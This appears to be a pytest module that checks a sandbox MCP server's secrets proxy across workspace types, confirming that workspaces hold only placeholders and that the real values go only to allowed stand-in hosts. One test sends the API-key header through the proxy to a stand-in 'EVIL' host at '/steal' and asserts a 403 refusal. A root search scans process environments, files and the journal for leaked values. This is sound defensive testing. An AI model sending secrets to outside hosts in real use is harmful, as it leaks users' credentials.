"""The secrets story every workspace type must pass, through a real MCP client (tests for container, vm, incus).

The workspace gets placeholders, never values; a request through the host's proxy reaches the stand-in
API (tests/internet.py) with the real value in place of the placeholder; git over HTTPS clones through the
proxy with its token; a placeholder towards a host its secret may not go to is refused; nothing inside
(processes' environments, files, the journal) holds a value; the proxy goes with the last such workspace.
"""

from __future__ import annotations

import json
import secrets
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sandbox_mcp import supervise
from sandbox_mcp.config import Settings
from sandbox_mcp.secrets.settings import SecretSpec, SecretsProxySettings

from .internet import ANTHROPIC, EVIL, GIT, Internet, internet

__all__ = ["CONNECTIONS", "SEARCH", "net", "secrets_flow", "values", "with_secrets"]

CONNECTIONS = 6  # the proxy's per-workspace connection limit in these tests

# As root inside: (lines of every process's environ/cmdline, files under the usual places, journal lines)
# holding any of the needles read from stdin. The needles go in on stdin, into a shell variable: never in
# a command line, an environment or a file of the workspace.
SEARCH = (
    "sudo -n bash -c 'n=$(cat); for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; "
    "do tr \"\\0\" \"\\n\" < $f; done 2>/dev/null | grep -cFf <(printf \"%s\\n\" \"$n\"); "
    "grep -rlsFf <(printf \"%s\\n\" \"$n\") /etc /home /root /tmp /var /run /usr/local /opt; "
    "journalctl --no-pager -q | grep -cFf <(printf \"%s\\n\" \"$n\")'"
)


@pytest.fixture
def values(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> dict[str, str]:
    """The real values: one in the server's environment, two in files."""
    v = {name: f"REAL-{name}-{secrets.token_hex(20)}" for name in ("anthropic", "oauth", "gittoken")}
    monkeypatch.setenv("SBXT_ANTHROPIC_KEY", v["anthropic"])
    for name in ("oauth", "gittoken"):
        (tmp_path / name).write_text(v[name] + "\n")
        (tmp_path / name).chmod(0o600)
    return v


@pytest.fixture
def net(tmp_path: Path, values: dict[str, str]) -> Iterator[Internet]:
    with internet(tmp_path / "internet", values["gittoken"]) as made:
        yield made


def with_secrets(settings: Settings, tmp_path: Path, net: Internet) -> Settings:
    """``settings`` plus three secrets (``values``' files and variable) for the stand-in hosts."""
    specs = {
        "anthropic": SecretSpec(source="env:SBXT_ANTHROPIC_KEY", hosts=[ANTHROPIC], send="header", header="x-api-key",
                                env=["ANTHROPIC_API_KEY"], base_url_env=["ANTHROPIC_BASE_URL"]),
        "oauth": SecretSpec(source=f"file:{tmp_path / 'oauth'}", hosts=[ANTHROPIC], send="bearer",
                            env=["CLAUDE_CODE_OAUTH_TOKEN"]),
        "gittoken": SecretSpec(source=f"file:{tmp_path / 'gittoken'}", hosts=[GIT], send="basic", git=True,
                               env=["GIT_TOKEN"]),
    }
    proxy = SecretsProxySettings(ca_bundle=net.ca, resolve=net.resolve, max_connections=CONNECTIONS)
    return settings.model_copy(update={"secrets": specs, "secrets_proxy": proxy})


async def _call(client: Any, tool: str, **args: Any) -> dict[str, Any]:
    result = await client.call_tool(tool, args)
    assert not result.is_error, f"{tool}: {result.content}"
    assert isinstance(result.structured_content, dict)
    return result.structured_content


async def secrets_flow(client: Any, settings: Settings, net: Internet, values: dict[str, str], name: str,
                       type_: str) -> None:
    """Create ``name`` of ``type_`` with two secrets, use them, look for the values inside, destroy it.

    ``settings`` are the server's (:func:`with_secrets`); the workspace is destroyed here, also on failure.
    """
    proxy_url = f"http://{settings.host_ip}:{settings.secrets_proxy.port}"
    paths = settings.state_dir / ".server" / "secrets-proxy"

    async def sh(command: str, stdin: str | None = None) -> dict[str, Any]:
        # Long bounds: only a hang fails; a VM under emulation is slow.
        return await _call(client, "exec", name=name, command=command, stdin=stdin, timeout_s=300)

    try:
        ws = await _call(client, "create_workspace", name=name, type=type_, secrets=["anthropic", "gittoken"])
        placeholders = ws["secrets"]
        assert set(placeholders) == {"anthropic", "gittoken"}
        assert all(v not in json.dumps(ws) for v in values.values())
        ref = supervise.ProcessRef.model_validate_json((paths / "process.json").read_bytes())
        assert supervise.alive(ref)

        # The Messages API the way Claude Code calls it: the base URL and x-api-key, both placeholders inside.
        r = await sh('curl -sS --fail-with-body -X POST "$ANTHROPIC_BASE_URL/v1/messages" '
                     '-H "x-api-key: $ANTHROPIC_API_KEY" -H "anthropic-version: 2023-06-01" '
                     '-H "content-type: application/json" -d \'{"model":"claude-x","max_tokens":8}\'')
        assert r["exit_code"] == 0 and "hello from the stand-in" in r["stdout"], r
        seen = net.requests(ANTHROPIC)[-1]
        assert seen["headers"]["x-api-key"] == values["anthropic"] and seen["path"] == "/v1/messages", seen
        assert placeholders["anthropic"] not in json.dumps(net.requests())

        # git over HTTPS with a token: the plain https:// URL, rewritten to the proxy by git's config.
        r = await sh(f"git clone -q https://{GIT}/project.git cloned && cat cloned/README")
        assert r["exit_code"] == 0 and r["stdout"] == "cloned through the secrets proxy\n", r

        # A placeholder towards a host its secret may not go to is refused, not forwarded.
        before = len(net.requests())
        r = await sh(f'curl -sS -o /dev/null -w "%{{http_code}}" "{proxy_url}/{EVIL}/steal" '
                     '-H "x-api-key: $ANTHROPIC_API_KEY"')
        assert r["stdout"] == "403", r
        assert len(net.requests()) == before and not net.requests(EVIL)

        # Inside: placeholders in the sessions' environment, never a value anywhere.
        r = await sh("env | grep -E '^(ANTHROPIC|GIT_TOKEN)' | sort")
        assert r["stdout"].splitlines() == sorted([
            f"ANTHROPIC_API_KEY={placeholders['anthropic']}",
            f"ANTHROPIC_BASE_URL={proxy_url}/{ANTHROPIC}",
            f"GIT_TOKEN={placeholders['gittoken']}",
        ]), r
        r = await sh(SEARCH, stdin="\n".join(values.values()) + "\n")
        assert r["stdout"].split() == ["0", "0"], r
        r = await sh(SEARCH, stdin="\n".join(placeholders.values()) + "\n")  # the same search finds what is there
        found = r["stdout"].split()
        assert int(found[0]) > 0 and "/etc/environment" in found[1:-1], r
    finally:
        await client.call_tool("destroy_workspace", {"name": name})
    # Gone with the last workspace that had secrets: the proxy and its clients.
    assert not supervise.alive(ref)
    assert not (paths / "process.json").exists() and not list((paths / "clients").iterdir())
